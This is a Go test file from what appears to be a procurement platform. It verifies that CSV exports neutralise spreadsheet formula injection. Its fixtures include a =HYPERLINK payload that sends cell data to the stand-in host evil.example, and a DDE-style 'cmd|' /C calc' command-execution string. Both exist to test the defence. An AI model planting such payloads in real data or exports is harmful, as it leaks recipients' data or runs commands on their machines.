package service_test

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/werkregio/platform/contracts/catalog"
	"github.com/werkregio/platform/services/kit/kittest"
)

// A spreadsheet never runs what a user typed: a tender title and a rejection reason that
// are formulas are exported as text by every CSV route (the attack of the security review:
// a reason =HYPERLINK(...) reached the contractor's export as is).
func TestEveryCSVExportNeutralisesFormulas(t *testing.T) {
	pf := kittest.NewPlatform(t)
	g := startRegion(t, pf, kittest.Region)
	formula := `=HYPERLINK("https://evil.example/?d="&A1,"Bekijk")`
	g.publish(t, catalog.TopicProcurementTenders, catalog.TypeTenderAwarded, "tnd-f", obj{"tenderId": "tnd-f", "region": g.name, "buyer": buyerOrg,
		"title": "@SUM(1+1)*cmd|' /C calc'!A0", "sector": "bouw", "contractorKvk": contractor, "contractorName": "+31 Bouw",
		"contractValueExclVatCents": 900_000_000, "sroiBasisPoints": 500, "sroiObligationCents": 45_000_000, "publicationDate": "2025-03-01",
		"awardedOn": "2025-05-01", "contractType": "works", "contractEnd": "2027-04-30"})
	kittest.Eventually(t, "project", 20*time.Second, func() bool { return g.r.Call(t, g.buyer, "GET", "/api/v1/projects/prj-tnd-f", nil, nil) == 200 })
	d := g.declareCandidate(t, "prj-tnd-f", bsnAnna, "2025-06-01", "2025-11-30")
	expect(t, "reject", g.r.Call(t, g.buyer, "POST", "/api/v1/declarations/"+d.ID+"/reject", obj{"reason": formula}, nil), 200)
	kittest.Eventually(t, "rejected", 20*time.Second, func() bool { return g.declaration(t, d.ID).Status == "rejected" })
	for _, path := range []string{"/api/v1/projects", "/api/v1/declarations", "/api/v1/totals"} {
		rows, err := csv.NewReader(strings.NewReader(getCSV(t, g, path))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) || strings.HasPrefix(cell, "-") && strings.ContainsAny(cell, "+|!") {
					t.Errorf("%s exports a formula: %q", path, cell)
				}
			}
		}
	}
	if body := getCSV(t, g, "/api/v1/declarations"); !strings.Contains(body, `'=HYPERLINK(`) {
		t.Errorf("the rejection reason is not in the export as text:\n%s", body)
	}
}
